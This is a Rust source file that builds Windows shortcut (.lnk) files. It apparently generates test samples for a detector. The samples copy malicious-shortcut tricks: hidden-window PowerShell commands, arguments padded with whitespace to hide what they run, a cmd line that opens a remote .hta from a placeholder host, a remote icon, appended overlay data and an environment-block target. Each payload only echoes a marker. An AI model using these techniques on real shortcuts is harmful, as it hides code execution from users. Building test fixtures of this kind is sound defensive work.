//! Windows shortcuts (MS-SHLLINK): item list, link info, strings, and the tricks with arguments and overlays.

use crate::bits::Le;
use crate::marker;

/// A shortcut under construction.
#[derive(Debug, Clone)]
pub struct Lnk {
    /// Target path in `LinkInfo`, such as `C:\Windows\System32\cmd.exe`.
    pub target: String,
    /// Relative path.
    pub relative: String,
    /// Command line arguments.
    pub arguments: String,
    /// Icon location.
    pub icon: String,
    /// Description.
    pub name: String,
    /// Window: 1 normal, 3 maximised, 7 minimised.
    pub show: u32,
    /// Target in the environment block (2.5.4), if any.
    pub environment: Option<String>,
    /// Bytes after the terminal block.
    pub overlay: Vec<u8>,
}

impl Lnk {
    /// A shortcut to `target`, which is an absolute path with a drive letter.
    pub fn new(target: &str) -> Self {
        let file = target.rsplit('\\').next().unwrap_or(target);
        Self {
            target: target.to_owned(),
            relative: format!(".\\{file}"),
            arguments: String::new(),
            icon: String::new(),
            name: String::new(),
            show: 1,
            environment: None,
            overlay: Vec::new(),
        }
    }

    /// Changes anything.
    pub fn with(mut self, change: impl Fn(&mut Self)) -> Self {
        change(&mut self);
        self
    }

    /// The file.
    pub fn build(&self) -> Vec<u8> {
        let strings = [&self.name, &self.relative, &self.arguments, &self.icon];
        let flags = [0x04, 0x08, 0x20, 0x40];
        let used = strings.iter().zip(flags).filter(|(text, _)| !text.is_empty());
        let mut all = 0x01 | 0x02 | 0x80 | used.clone().map(|(_, flag)| flag).sum::<u32>();
        if self.environment.is_some() {
            all |= 0x200;
        }
        let mut out = Le::new().u32(0x4c).raw(SHORTCUT).u32(all).u32(0x20).u64(TIME).u64(TIME).u64(TIME);
        out = out.u32(4096).u32(0).u32(self.show).u16(0).u16(0).u32(0).u32(0);
        out = out.raw(self.item_list()).raw(self.link_info());
        for (text, _) in used {
            out = out.u16(text.encode_utf16().count() as u16).utf16(text);
        }
        if let Some(target) = &self.environment {
            out = out.raw(environment(target));
        }
        out.u32(0).raw(&self.overlay).0
    }

    /// Item list (2.2): My Computer, the drive, then each path part.
    fn item_list(&self) -> Vec<u8> {
        let mut items = item(&[&[0x1f, 0x50][..], &MY_COMPUTER].concat());
        let mut parts = self.target.split('\\');
        let drive = format!("{}\\", parts.next().unwrap_or("C:"));
        items.extend(item(&Le::new().u8(0x2f).cstr(&drive).raw([0; 19]).0));
        let parts: Vec<&str> = parts.collect();
        for (index, part) in parts.iter().enumerate() {
            let last = index + 1 == parts.len();
            let (kind, attributes) = if last { (0x32, 0x20) } else { (0x31, 0x10) };
            let size = if last { 4096 } else { 0 };
            let body = Le::new().u8(kind).u8(0).u32(size).u32(0x1883_5822).u16(attributes).cstr(part).0;
            items.extend(item(&body));
        }
        Le::new().u16(items.len() as u16 + 2).raw(items).u16(0).0
    }

    /// Link info (2.3) with a fixed local volume.
    fn link_info(&self) -> Vec<u8> {
        let volume = Le::new().u32(0x11).u32(3).u32(0x1234_5678).u32(0x10).u8(0).0;
        let base = 0x1c + volume.len() as u32;
        let end = base + self.target.len() as u32 + 1;
        let head = Le::new().u32(end + 1).u32(0x1c).u32(1).u32(0x1c).u32(base).u32(0).u32(end);
        head.raw(volume).cstr(&self.target).u8(0).0
    }
}

/// Every shortcut: name, bytes; the marker of each is `marker(<name without .lnk>)`, in the arguments or the description.
pub fn samples() -> Vec<(&'static str, Vec<u8>)> {
    const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
    let run = |target: &str, seed: &str, before: &str| {
        let arguments = format!("{before}echo {}", marker(seed));
        Lnk::new(target).with(move |l| l.arguments.clone_from(&arguments))
    };
    vec![
        ("lnk-clean.lnk", {
            let notes = Lnk::new("C:\\Users\\Public\\Documents\\notes.txt");
            notes.with(|l| l.name = marker("lnk-clean")).build()
        }),
        (
            "lnk-powershell.lnk",
            run(POWERSHELL, "lnk-powershell", "-NoProfile -WindowStyle Hidden -Command ")
                .with(|l| l.show = 7)
                .build(),
        ),
        (
            "lnk-padded.lnk",
            run(CMD, "lnk-padded", &format!("{}/c ", " \t\n\r".repeat(80))).build(),
        ),
        (
            "lnk-long.lnk",
            run(CMD, "lnk-long", &format!("/c rem {} & ", "x".repeat(400))).build(),
        ),
        (
            "lnk-url.lnk",
            run(CMD, "lnk-url", "/c start https://files.example/page.hta & ").build(),
        ),
        (
            "lnk-icon.lnk",
            run(CMD, "lnk-icon", "/c ")
                .with(|l| l.icon = "https://icons.example/document.ico".to_owned())
                .build(),
        ),
        (
            "lnk-overlay.lnk",
            run(CMD, "lnk-overlay", "/c ")
                .with(|l| l.overlay = crate::payload("lnk-overlay").repeat(4))
                .build(),
        ),
        ("lnk-environment.lnk", {
            let notes = Lnk::new("C:\\Users\\Public\\Documents\\notes.txt").with(|l| l.name = marker("lnk-environment"));
            notes
                .with(|l| l.environment = Some("%SystemRoot%\\System32\\cmd.exe".to_owned()))
                .build()
        }),
    ]
}

const SHORTCUT: [u8; 16] = [0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46];
const MY_COMPUTER: [u8; 16] = [
    0xe0, 0x4f, 0xd0, 0x20, 0xea, 0x3a, 0x69, 0x10, 0xa2, 0xd8, 0x08, 0, 0x2b, 0x30, 0x30, 0x9d,
];
/// 2024-01-02 03:04:05 UTC as a FILETIME.
const TIME: u64 = 133_486_454_450_000_000;

fn item(body: &[u8]) -> Vec<u8> {
    Le::new().u16(body.len() as u16 + 2).raw(body).0
}

/// `EnvironmentVariableDataBlock` (2.5.4).
fn environment(target: &str) -> Vec<u8> {
    let mut ansi = target.as_bytes().to_vec();
    ansi.resize(260, 0);
    let mut wide = crate::bits::utf16le(target);
    wide.resize(520, 0);
    Le::new().u32(0x314).u32(0xa000_0001).raw(ansi).raw(wide).0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parts_stand_where_the_header_says() {
        let bytes = Lnk::new("C:\\Windows\\a.exe").with(|l| l.arguments = "hi".to_owned()).build();
        assert_eq!(bytes[..4], [0x4c, 0, 0, 0]);
        let list = usize::from(u16::from_le_bytes([bytes[76], bytes[77]]));
        let info = 78 + list;
        let info_len = u32::from_le_bytes(bytes[info..info + 4].try_into().unwrap()) as usize;
        let rest = &bytes[info + info_len..];
        assert_eq!(rest, Le::new().u16(7).utf16(".\\a.exe").u16(2).utf16("hi").u32(0).0);
    }
}
